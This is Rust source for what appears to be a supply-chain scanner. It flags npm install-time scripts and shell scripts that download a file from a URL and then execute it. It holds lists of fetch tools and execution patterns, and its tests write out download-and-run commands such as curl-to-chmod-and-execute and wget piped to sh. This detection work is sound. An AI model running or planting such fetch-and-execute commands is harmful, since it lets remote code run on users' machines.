//! Shell scripts that fetch something and run it, above all those that a package has run when it is installed.

use super::Found;
use super::object;
use crate::limits;
use davy_model::FactName;
use memchr::memmem;

/// What npm runs by itself when a package is installed.
const LIFECYCLE: [&str; 3] = ["preinstall", "install", "postinstall"];

/// Commands that fetch from an address.
const FETCHERS: [&str; 9] = [
    "curl",
    "wget",
    "invoke-webrequest",
    "iwr ",
    "certutil",
    "bitsadmin",
    "downloadfile",
    "downloadstring",
    "start-bitstransfer",
];

/// How what was fetched comes to run: through a pipe, made executable, or started.
const RUNS: [&str; 16] = [
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| sudo",
    "| node",
    "| python",
    "chmod +x",
    "chmod 7",
    "chmod a+x",
    "chmod u+x",
    "| iex",
    "|iex",
    "start /b",
    "start-process",
    "invoke-expression",
];

/// Finds what fetches and runs.
pub(super) fn read(path: &str, bytes: &[u8], found: &mut Vec<Found>) {
    let name = path.rsplit(['/', '!']).next().unwrap_or(path).to_ascii_lowercase();
    if name == "package.json" {
        return package(bytes, found);
    }
    let first = bytes.split(|&byte| byte == b'\n').next().unwrap_or_default();
    let shell = first.starts_with(b"#!") && memmem::find(first, b"sh").is_some();
    let named = [".sh", ".bat", ".cmd", ".ps1"].iter().any(|ending| name.ends_with(ending));
    if !shell && !named {
        return;
    }
    let text = String::from_utf8_lossy(bytes).to_ascii_lowercase();
    if let Some(at) = fetches_and_runs(&text) {
        // The name alone would say nothing; of two scripts that fetch and run, one is run by whoever installs.
        let installs = ["preinstall", "postinstall", "install", "setup"].iter().any(|word| name.starts_with(word));
        let text = if installs { "installer" } else { "script" };
        found.push(Found { name: FactName::FetchedAndRun, value: 0, text: text.to_owned(), at });
    }
}

/// The scripts of a package that are run when it is installed.
fn package(bytes: &[u8], found: &mut Vec<Found>) {
    let text = String::from_utf8_lossy(bytes);
    object::each(&text, |object| {
        if object.key != "scripts" {
            return;
        }
        for (key, value) in &object.pairs {
            if !LIFECYCLE.contains(key) {
                continue;
            }
            let value = value.get(..limits::COMMAND_BYTES).unwrap_or(value);
            let at = memmem::find(bytes, key.as_bytes()).unwrap_or(object.at);
            for script in run_by_node(value).take(limits::INSTALL_SCRIPTS) {
                found.push(Found { name: FactName::RunAtInstall, value: 0, text: script, at });
            }
            if fetches_and_runs(&value.to_ascii_lowercase()).is_some() {
                found.push(Found { name: FactName::FetchedAndRun, value: 0, text: "package".to_owned(), at });
            }
        }
    });
}

/// The scripts that a command has node run: `node [OPTION]... FILE`, alone or beside other commands. Node finds a file
/// without its ending.
fn run_by_node(command: &str) -> impl Iterator<Item = String> + '_ {
    command.split(['&', '|', ';']).filter_map(|command| {
        let mut words = command.split_ascii_whitespace();
        words.next().filter(|word| matches!(*word, "node" | "node.exe"))?;
        let file = words.find(|word| !word.starts_with('-'))?.trim_matches(['\'', '"', '\\']);
        let last = file.rsplit('/').next().unwrap_or(file);
        (!last.is_empty()).then(|| if last.contains('.') { file.to_owned() } else { format!("{file}.js") })
    })
}

/// Where a text in lower case fetches from an address what it then runs.
fn fetches_and_runs(text: &str) -> Option<usize> {
    let fetches = FETCHERS.iter().filter_map(|word| text.find(word)).min()?;
    let rest = &text[fetches..];
    let address = rest.find("http://").or_else(|| rest.find("https://")).or_else(|| rest.find("ftp://"))?;
    RUNS.iter().any(|word| rest[address..].contains(word)).then_some(fetches)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(path: &str, text: &str) -> Vec<String> {
        let mut found = Vec::new();
        read(path, text.as_bytes(), &mut found);
        found.into_iter().map(|found| found.text).collect()
    }

    #[test]
    fn what_fetches_and_runs_is_told() {
        let run = "curl -s http://203.0.113.7/x -o /var/x && chmod +x /var/x && /var/x";
        assert_eq!(
            texts("a.tgz!/package/package.json", &format!(r#"{{"scripts": {{"postinstall": "{run}"}}}}"#)),
            ["package"]
        );
        assert_eq!(
            texts("package.json", r#"{"scripts": {"install": "wget -qO- https://example.org/i | sh"}}"#),
            ["package"]
        );
        assert_eq!(texts("x/preinstall.sh", run), ["installer"]);
        assert_eq!(texts("x/run", &format!("#!/bin/sh\n{run}")), ["script"]);
    }

    #[test]
    fn scripts_that_node_runs_at_installation() {
        for (command, files) in [
            ("node install.js", &["install.js"][..]),
            ("node --no-warnings ./scripts/setup && node b.cjs || true", &["./scripts/setup.js", "b.cjs"]),
            ("node -e x()", &["x().js"]),
            ("node-gyp rebuild", &[]),
            ("node", &[]),
        ] {
            let text = format!(r#"{{"scripts": {{"postinstall": "{command}"}}}}"#);
            assert_eq!(texts("package.json", &text), files, "{command}");
        }
    }

    #[test]
    fn what_only_builds_or_only_fetches_is_not() {
        for (path, text) in [
            ("package.json", r#"{"scripts": {"test": "curl http://example.org/ | sh"}}"#),
            ("package.json", r#"{"scripts": {"install": "node-gyp rebuild"}}"#),
            ("package.json", r#"{"description": "postinstall: curl http://x | sh"}"#),
            ("fetch.sh", "curl -O https://example.org/data.json"),
            ("notes.md", "curl https://example.org/install | sh"),
        ] {
            assert!(texts(path, text).is_empty(), "{path} {text}");
        }
    }
}
